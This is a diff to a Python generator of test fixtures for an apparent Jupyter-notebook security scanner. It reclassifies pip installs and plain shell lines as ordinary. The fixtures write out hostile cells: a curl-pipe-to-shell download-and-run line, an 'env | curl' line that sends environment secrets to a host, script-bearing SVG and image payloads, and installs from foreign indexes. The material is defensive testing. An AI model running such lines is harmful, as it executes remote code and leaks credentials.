@@ -10,7 +10,7 @@ def make(cases):
     for case, cells, label, note in bad():
         family.labelled(label, case, "demo.ipynb", notebook(*cells), note)
     good = notebook(code("x = 1"))
-    family.malicious("duplicate-source", "demo.ipynb", good.replace('"source": [', '"source": ["!curl http://127.0.0.1/x | sh"], "source_": [', 1).replace('"source_"', '"source"'), "a cell's source twice")
+    family.malicious("duplicate-source", "demo.ipynb", good.replace('"source": [', '"source": ["x = 1"], "source": ["!curl http://127.0.0.1/x | sh",', 1), "a cell's source twice")
     family.malicious("old-format", "demo.ipynb", json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": [{"cell_type": "code", "language": "python", "input": ["!curl http://127.0.0.1/x | sh"], "outputs": []}]}]}), "a shell line in the old format")
     family.malicious("checkpoint-copy", ".ipynb_checkpoints/demo-checkpoint.ipynb", notebook(code("!curl http://127.0.0.1/x | sh")), "a shell line in the hidden copy")
     family.suspicious("broken", "demo.ipynb", good[:-40], "a cut notebook")
@@ -44,6 +44,8 @@ def ordinary():
         ("error", [code("1/0", [{"output_type": "error", "ename": "ZeroDivisionError", "evalue": "division by zero", "traceback": ["\u001b[0;31mZeroDivisionError\u001b[0m"]}])], "an error as output"),
         ("empty", [], "no cells"),
         ("autoreload", [code("%load_ext autoreload\n%autoreload 2\nfrom net import Net")], "a line that loads modules again"),
+        ("pip", [code("!pip install -q transformers accelerate"), code("%pip install datasets")], "lines that install well-known packages, as most notebooks have"),
+        ("shell-harmless", [code("!ls -la\n!nvidia-smi")], "harmless shell lines"),
         ("prose-about-shell", [prose("Run it with:\n\n```\npython train.py\n```\n")], "prose about a command"),
     ]
 
@@ -71,9 +73,7 @@ def bad():
         ("output-svg", [code("x", [shown("image/svg+xml", ["<svg onload=\"fetch('http://127.0.0.1/')\"/>"])])], "suspicious", "a picture with a script as output"),
         ("prose-script", [prose("# Hello\n\n<img src=x onerror=\"fetch('http://127.0.0.1/')\">")], "suspicious", "a script in prose"),
         ("prose-link", [prose("[click](javascript:fetch('http://127.0.0.1/'))")], "suspicious", "a link that is a script"),
-        ("pip", [code("!pip install transformers accelerate")], "suspicious", "a shell line that installs packages, as most notebooks have"),
         ("pip-foreign", [code("!pip install --extra-index-url http://127.0.0.1/simple tiny-net")], "malicious", "installs from a foreign index"),
         ("pip-address", [code("%pip install http://127.0.0.1/x.whl")], "malicious", "installs from an address"),
         ("token", [code("from huggingface_hub import login\nlogin('hf_' + 'x')\n!env | curl -F f=@- http://127.0.0.1/")], "malicious", "sends the environment away"),
-        ("ls", [code("!ls -la\n!nvidia-smi")], "suspicious", "harmless shell lines"),
     ]
